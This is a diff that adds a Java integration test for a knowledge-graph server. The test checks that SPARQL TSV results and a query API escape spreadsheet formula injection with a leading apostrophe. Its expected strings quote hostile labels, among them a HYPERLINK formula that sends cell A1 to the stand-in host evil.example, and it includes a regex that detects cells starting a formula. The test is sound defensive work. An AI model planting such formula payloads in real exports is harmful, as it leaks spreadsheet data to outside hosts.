@@ -80,6 +80,34 @@ class HostileLabelsIT {
         assertTrue(export.contains("'=HYPERLINK"), export);
     }
 
+    /**
+     * TSV too: SPARQL TSV writes a string in quotes, which spreadsheets drop before reading the
+     * rest as a formula. A text that would start one gets an apostrophe inside the quotes, in the
+     * /kg/sparql results and the query API's; numbers stay numbers.
+     */
+    @Test
+    void tsvNeverStartsACellWithAFormula() throws Exception {
+        String sparql = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/kg/sparql?query="
+                + URLEncoder.encode("SELECT ?name ?n { ?p <http://www.w3.org/2000/01/rdf-schema#label>|<http://www.w3.org/2004/02/skos/core#altLabel> ?name BIND(-5 AS ?n) }", StandardCharsets.UTF_8)))
+                .header("Accept", "text/tab-separated-values").build(), HttpResponse.BodyHandlers.ofString()).body();
+        assertTrue(sparql.startsWith("?name\t?n\n"), sparql);
+        assertNoTsvFormula(sparql);
+        assertTrue(sparql.contains("\"'=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\""), sparql);
+        assertTrue(sparql.contains("\"'+1+1") && sparql.contains("\"'@SUM(A1:A9)") && sparql.contains("\"'-2+3"), sparql);
+        assertTrue(sparql.contains("\t-5\n"), "numbers stay numbers: " + sparql);
+        String api = http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/queries/name-variants?format=tsv&entity="
+                + URLEncoder.encode("person/formula-man", StandardCharsets.UTF_8))).build(), HttpResponse.BodyHandlers.ofString()).body();
+        assertNoTsvFormula(api);
+        assertTrue(api.contains("\"'=HYPERLINK"), api);
+    }
+
+    static void assertNoTsvFormula(String tsv) {
+        for (String line : tsv.split("\n"))
+            for (String cell : line.split("\t"))
+                if (!cell.equals("-5"))
+                    assertFalse(java.util.regex.Pattern.compile("^\"?[=+@-]").matcher(cell).find(), "a cell starts a formula: " + cell + " in " + line);
+    }
+
     static void assertNoFormula(String csv) {
         for (String line : csv.split("\r?\n"))
             // the one number column of the /kg/sparql probe (-5) is a number, not a formula
